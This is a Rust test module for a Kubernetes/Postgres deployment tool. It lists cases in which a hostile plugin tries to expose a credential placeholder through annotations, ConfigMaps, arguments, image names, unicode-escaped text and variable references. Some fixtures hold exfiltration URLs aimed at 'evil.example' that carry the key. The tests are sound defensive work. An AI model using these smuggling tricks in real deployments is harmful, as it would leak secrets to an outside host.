//! Guests that want the value of a credential at a place where they can read it.

use serde_json::{Value, json};

use super::{By, Case, guest, object};
use crate::script::Script;

/// The placeholder that the hostile step is shown.
const OWN: &str = "pgloom-placeholder:hostile:config:scalyr_api_key";
/// That of another step.
const OTHER: &str = "pgloom-placeholder:database:config:scalyr_api_key";

/// A guest that asks for the credential, and contributes this object.
fn contributes(kind: &str, fields: Value) -> Script {
    guest().creates(kind, &["{cluster}-*"]).credential("scalyr_api_key").applies(&object(kind, "{cluster}-x", fields))
}

fn container(fields: Value) -> Script {
    let mut container = json!({"name": "c"});
    super::merge(&mut container, fields);
    contributes("apps/v1 Deployment", json!({"spec": {"template": {"spec": {"containers": [container]}}}}))
}

fn variable(value: &str) -> Value {
    json!({"env": [{"name": "KEY", "value": value}]})
}

/// A guest that sets a variable of the database, which its grant names, to a reference to another one.
fn refers() -> Script {
    let variable = json!({"name": "URL", "value": "https://evil.example/$(KEY)"});
    let containers = json!([{"name": "postgres", "env": [variable]}]);
    let field = "spec.template.spec.containers[name=postgres].env[name=URL]";
    guest().sets("apps/v1 StatefulSet", &["{cluster}"], &[field]).applies(&object(
        "apps/v1 StatefulSet",
        "{cluster}",
        json!({"spec": {"template": {"spec": {"containers": containers}}}}),
    ))
}

pub(super) fn cases() -> Vec<Case> {
    let misplaced = |name, script, place: &'static str| {
        Case::new(name, script, By::Answer, &[place, "is filled in only as the value of a container's variable"])
    };
    let hidden = object("v1 ConfigMap", "{cluster}-x", json!({"data": {"key": OWN}}));
    let hidden = hidden.to_string().replace("pgloom-placeholder", "\\u0070gloom-placeholder");
    vec![
        misplaced(
            "opens a credential into an annotation",
            contributes("v1 Service", json!({"metadata": {"annotations": {"key": OWN}}})),
            "Service acid-orders-x: metadata.annotations.key",
        ),
        misplaced(
            "opens a credential into a ConfigMap",
            contributes("v1 ConfigMap", json!({"data": {"key": OWN}})),
            "ConfigMap acid-orders-x: data.key",
        ),
        misplaced(
            "opens a credential into an argument of a command",
            container(json!({"args": ["--key", OWN]})),
            "spec.template.spec.containers[0].args[1]",
        ),
        misplaced(
            "opens a credential into the name of an image",
            container(json!({"image": OWN})),
            "spec.template.spec.containers[0].image",
        ),
        misplaced(
            "hides a placeholder by a letter that is written as its number",
            guest().creates("v1 ConfigMap", &["{cluster}-*"]).credential("scalyr_api_key").contributes(&hidden),
            "ConfigMap acid-orders-x: data.key",
        ),
        Case::new(
            "opens a credential inside a longer text",
            container(variable(&format!("https://evil.example/?key={OWN}"))),
            By::Answer,
            &["spec.template.spec.containers[0].env[0].value", "inside a longer text"],
        ),
        Case::new(
            "uses the placeholder of another step",
            container(variable(OTHER)),
            By::Answer,
            &["spec.template.spec.containers[0].env[0].value", "which this step was not shown"],
        ),
        Case::new(
            "copies the credential of another step by a reference to its variable",
            refers(),
            By::Merge,
            &[
                "containers[name=postgres].env[name=URL].value` of apps/v1 StatefulSet acid-orders",
                "it refers to a variable that holds a credential of another step",
            ],
        ),
        Case::new(
            "uses a placeholder of the manifest that it did not ask for",
            container(variable("pgloom-placeholder:hostile:manifest:/spec/clone/s3_secret_access_key")),
            By::Answer,
            &[
                "which this step was not shown",
                "the plugin has to ask for the credential, and the pipeline to grant it",
            ],
        ),
        Case::new(
            "asks for a credential that the pipeline does not grant",
            guest().credential("scalyr_api_key"),
            By::Load,
            &["the pipeline does not grant what plugin hostile 0.1.0 needs", "config:scalyr_api_key"],
        )
        .step("grants", json!({})),
        Case::new(
            "opens a credential into the label of a Secret",
            guest().credential("scalyr_api_key").action("credential", &["spy"]).requests(
                "spy",
                "credential",
                json!({"username": "spy", "labels": [["key", OWN]]}),
            ),
            By::Answer,
            &["action spy holds the placeholder of a credential"],
        ),
    ]
}
